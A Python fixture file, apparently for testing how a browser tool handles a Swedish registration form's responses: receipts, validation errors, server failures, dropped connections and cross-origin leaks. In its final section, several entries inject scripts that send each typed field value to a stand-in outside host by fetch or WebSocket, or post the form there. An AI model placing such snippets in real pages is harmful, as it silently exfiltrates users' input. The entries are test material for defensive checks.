"""What goes wrong after the press: in the answer of the site, on its way, and on other origins."""

from faults import PERSON, RECEIPT, Fault, filled, form, script
from faulty_site import Reply

_SOON = {"timeout": 1.2}
_NAME = PERSON["Namn"]
_SUMMARY = f"<div class=error-summary role=alert><a href='#n'>{_NAME} finns redan</a></div>"
_MARK = "aria-invalid=true aria-describedby=fel"
_GONE_WRONG = "<!doctype html><h1>Ett fel har uppstått</h1><p class=error>Kontakta supporten</p>"
_PDF = {"Content-Type": "application/pdf", "Content-Disposition": "attachment; filename=kvitto-197603152385.pdf"}
_SEND = "fetch('%s', {method: 'POST', body: new URLSearchParams(new FormData(f))})"


def by_script(then: str, *, to: str = "/ny") -> str:
    """The form of a page that stays: a script sends it, and does something with the answer."""
    return form(more=script(f"f.onsubmit = () => {{ {_SEND % to}{then}; return false }}"))


ANSWERING = [
    Fault(what="it shows the receipt"),
    Fault(
        what="it leads to the receipt",
        answers=[Reply(status=303, headers={"Location": "/kvitto"})],
        more={"GET /kvitto": [RECEIPT]},
    ),
    Fault(
        what="it draws the receipt in the same page",
        opens=[by_script(".then((a) => a.text()).then((text) => { f.outerHTML = text })")],
    ),
    Fault(what="it is slow, within the time limit", answers=[Reply(body=RECEIPT, wait=1.0)]),
    Fault(what="it is slower than the time limit", answers=[Reply(body=RECEIPT, wait=1.8)], asks=_SOON),
    Fault(
        what="the receipt comes, and its page never ends",
        answers=[Reply(body=RECEIPT, trickles=1.8)],
        asks=_SOON,
    ),
    Fault(what="the receipt comes with a message (alert)", answers=[RECEIPT + script("alert('Sparat')")]),
]

REFUSING = [
    Fault(
        what="status 422: the form, a text beside the field",
        answers=[Reply(status=422, body=filled(n=_MARK, told=f"{_NAME} finns redan"))],
    ),
    Fault(what="status 400: the form, a field that is marked", answers=[Reply(status=400, body=filled(n=_MARK))]),
    Fault(what="status 200: the form, a text beside the field", answers=[filled(n=_MARK, told="Finns redan")]),
    Fault(what="status 200: the form, a list of errors with links", answers=[filled(more=_SUMMARY)]),
    Fault(
        what="status 200: the form, aria-errormessage",
        answers=[filled(n="aria-invalid=true aria-errormessage=fel", told="Finns redan")],
    ),
    Fault(what="the form again, without a word", answers=[filled()], asks=_SOON),
    Fault(what="the form again, emptied, with marks", answers=[form(n=_MARK, told="Finns redan")], asks=_SOON),
]

FAILING = [
    Fault(what="status 500", answers=[Reply(status=500, body=_GONE_WRONG)]),
    Fault(what="status 502", answers=[Reply(status=502, body="Bad Gateway")]),
    Fault(what="status 503, with the form and its marks", answers=[Reply(status=503, body=filled(n=_MARK))]),
    Fault(what="status 403", answers=[Reply(status=403, body="<h1>Nej</h1>")]),
    Fault(what="status 404", answers=[Reply(status=404, body="<h1>Borta</h1>")]),
    Fault(what="status 409, with a receipt", answers=[Reply(status=409, body=RECEIPT)]),
    Fault(what="status 429", answers=[Reply(status=429, body="Vänta")]),
    Fault(what="status 204: nothing", answers=[Reply(status=204)], asks=_SOON),
    Fault(what="an error in words, with status 200", answers=[_GONE_WRONG]),
    Fault(what="status 500 to a script", opens=[by_script("")], answers=[Reply(status=500)]),
    Fault(what="the connection is cut before anything is sent on it", opens=[Reply(body=form(), cut="after")]),
    Fault(what="the connection is cut without an answer, at its first use", answers=[Reply(cut="before")], opens=[
        Reply(body=form(), headers={"Connection": "close"})]),
    Fault(what="a connection in use before is cut without an answer", answers=[Reply(cut="before")], times=2),
    Fault(
        what="the same, and when the browser sends again it is answered",
        answers=[Reply(cut="before"), Reply(body=RECEIPT)],
        times=2,
    ),
    Fault(what="the connection is cut in the middle of the answer", answers=[Reply(body=RECEIPT, cut="half")]),
    Fault(what="a script's connection is cut", opens=[
        Reply(body=by_script(".catch(() => 0)"), headers={"Connection": "close"})], answers=[Reply(cut="before")]),
    Fault(what="silence", answers=[Reply(wait=1.8)], asks=_SOON),
    Fault(what="redirects without end", answers=[Reply(status=303, headers={"Location": "/runt"})],
          more={"GET /runt": [Reply(status=302, headers={"Location": "/runt"})]}),
]  # fmt: skip

SHOWING = [
    Fault(what="another page, without the number", answers=["<!doctype html><h1>Tack</h1>"]),
    Fault(what="two numbers", answers=[RECEIPT + RECEIPT.replace("2026/1", "2026/2")]),
    Fault(what="another page than the words that are expected", asks={"read": {}, "expect": "Ärendet är registrerat"}),
    Fault(
        what="a page whose address tells who it is about, without the number",
        answers=[Reply(status=303, headers={"Location": f"/kvitto/{PERSON['E-post']}?pnr={PERSON['Personnummer']}"})],
        more={f"GET /kvitto/{PERSON['E-post']}": [f"<!doctype html><title>{_NAME}</title><h1>{_NAME}</h1>"]},
    ),
    Fault(
        what="the receipt in a window of its own",
        opens=[form(form="target=_blank")],
        asks=_SOON,
    ),
    Fault(what="the receipt as a file", answers=[Reply(body="%PDF-1.4", headers=_PDF)], asks=_SOON),
]

LEAVING = [
    Fault(what="the address itself", url="OTHER/ny", fenced=True),
    Fault(what="a page that leads there", opens=[Reply(status=302, headers={"Location": "OTHER/ny"})], fenced=True),
    Fault(what="a frame from there, with the form in it", opens=["<iframe src=OTHER/ny></iframe>"], fenced=True),
    Fault(what="a script that tells it what is typed", fenced=True, opens=[
        form(o="oninput=\"fetch('OTHER/spion?' + n.value).catch(() => 0)\"")]),
    Fault(what="a web socket that tells it what is typed", fenced=True, opens=[
        form(o="oninput=\"new WebSocket('OTHER/'.replace('http', 'ws') + '?' + n.value)\"")]),
    Fault(what="the form is sent there", opens=[form(form="action=OTHER/ny")], fenced=True, asks=_SOON),
    Fault(what="a script sends it there", opens=[by_script(".catch(() => 0)", to="OTHER/ny")], fenced=True, asks=_SOON),
    Fault(what="the answer leads there", answers=[Reply(status=303, headers={"Location": "OTHER/ny"})], fenced=True),
    Fault(what="the receipt opens a window there", answers=[RECEIPT + script("window.open('OTHER/')")], fenced=True),
    Fault(what="the receipt leads to a file there", fenced=True, answers=[
        RECEIPT + "<a href=OTHER/fil download id=a></a>" + script("a.click()")]),
]  # fmt: skip
